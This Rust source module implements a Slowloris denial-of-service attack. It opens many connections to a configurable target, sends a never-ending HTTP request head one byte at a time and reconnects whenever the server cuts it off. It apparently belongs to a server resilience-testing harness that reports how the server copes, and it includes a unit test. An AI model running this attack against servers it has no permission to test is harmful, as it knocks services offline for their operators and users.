//! Slowloris: connections that send a request head one byte at a time and never
//! finish it, to hold the server's connection slots and memory for free.
//!
//! Each slot opens a connection, trickles the head (a request line, a `Host`, then
//! `X-Slow: a` lines forever, never the blank line that ends a head), and opens a new
//! one as soon as the server cuts it off, until the stop.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::Instant;

use super::client::connect_from;
use super::{Stop, Tally};

/// After a failed connect, the wait before the next one.
const RETRY_PAUSE: Duration = Duration::from_millis(100);

#[derive(Debug, Clone)]
pub struct SlowlorisConfig {
    pub connections: usize,
    pub source: IpAddr,
    pub target: SocketAddr,
    /// The time between two bytes of the head.
    pub byte_every: Duration,
    /// Connections open spread over this long, not in one burst at the listen backlog.
    pub ramp: Duration,
}

/// What the slots saw.
#[derive(Debug, Default)]
pub struct SlowlorisReport {
    pub slots: usize,
    pub opened: u64,
    /// Connections the server closed or reset.
    pub cut_off: u64,
    /// Of those, the ones that got some bytes first (a 408 page, say).
    pub answered_first: u64,
    /// Connections still open when the run stopped.
    pub open_at_end: u64,
    /// Failed connects, by error.
    pub connect_failures: Tally,
    /// How long each cut-off connection lasted; sorted.
    pub held: Vec<Duration>,
}

pub async fn run(config: SlowlorisConfig, stop: Stop) -> SlowlorisReport {
    let start = Instant::now();
    let slots: Vec<_> = (0..config.connections)
        .map(|i| {
            let at = start
                + config
                    .ramp
                    .mul_f64(i as f64 / config.connections.max(1) as f64);
            tokio::spawn(slot(config.clone(), at, stop.clone()))
        })
        .collect();
    let mut report = SlowlorisReport {
        slots: config.connections,
        ..SlowlorisReport::default()
    };
    for s in slots {
        if let Ok(r) = s.await {
            report.opened += r.opened;
            report.cut_off += r.cut_off;
            report.answered_first += r.answered_first;
            report.open_at_end += r.open_at_end;
            report.connect_failures.merge(&r.connect_failures);
            report.held.extend(r.held);
        }
    }
    report.held.sort_unstable();
    report
}

async fn slot(config: SlowlorisConfig, at: Instant, mut stop: Stop) -> SlowlorisReport {
    let mut report = SlowlorisReport::default();
    if !stop.sleep_until(at).await {
        return report;
    }
    while !stop.is_set() {
        let stream = tokio::select! {
            biased;
            _ = stop.fired() => break,
            s = connect_from(config.source, config.target) => s,
        };
        let stream = match stream {
            Ok(s) => s,
            Err(e) => {
                report.connect_failures.add(e.kind().to_string());
                if !stop.sleep_until(Instant::now() + RETRY_PAUSE).await {
                    break;
                }
                continue;
            }
        };
        report.opened += 1;
        match hold(stream, config.byte_every, &mut stop).await {
            Held::CutOff { after, answered } => {
                report.cut_off += 1;
                report.answered_first += u64::from(answered);
                report.held.push(after);
            }
            Held::Stopped => report.open_at_end += 1,
        }
    }
    report
}

enum Held {
    CutOff { after: Duration, answered: bool },
    Stopped,
}

/// Trickles the head into `stream` until the server closes it or the stop.
async fn hold(stream: TcpStream, byte_every: Duration, stop: &mut Stop) -> Held {
    let (mut rd, mut wr) = stream.into_split();
    let opened = Instant::now();
    let mut next = opened;
    let mut sent = 0;
    let mut answered = false;
    let mut buf = [0u8; 1024];
    loop {
        tokio::select! {
            biased;
            _ = stop.fired() => return Held::Stopped,
            r = rd.read(&mut buf) => match r {
                Ok(0) | Err(_) => return Held::CutOff { after: opened.elapsed(), answered },
                Ok(_) => answered = true,
            },
            _ = tokio::time::sleep_until(next) => {
                if wr.write_all(&[head_byte(sent)]).await.is_err() {
                    return Held::CutOff { after: opened.elapsed(), answered };
                }
                sent += 1;
                next += byte_every;
            }
        }
    }
}

/// The `i`th byte of a request head that never ends.
fn head_byte(i: usize) -> u8 {
    const START: &[u8] = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    const MORE: &[u8] = b"X-Slow: a\r\n";
    match START.get(i) {
        Some(b) => *b,
        None => MORE[(i - START.len()) % MORE.len()],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_head_never_ends() {
        let head: Vec<u8> = (0..200).map(head_byte).collect();
        assert!(head.starts_with(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: a\r\n"));
        assert!(!head.windows(4).any(|w| w == b"\r\n\r\n"));
    }
}
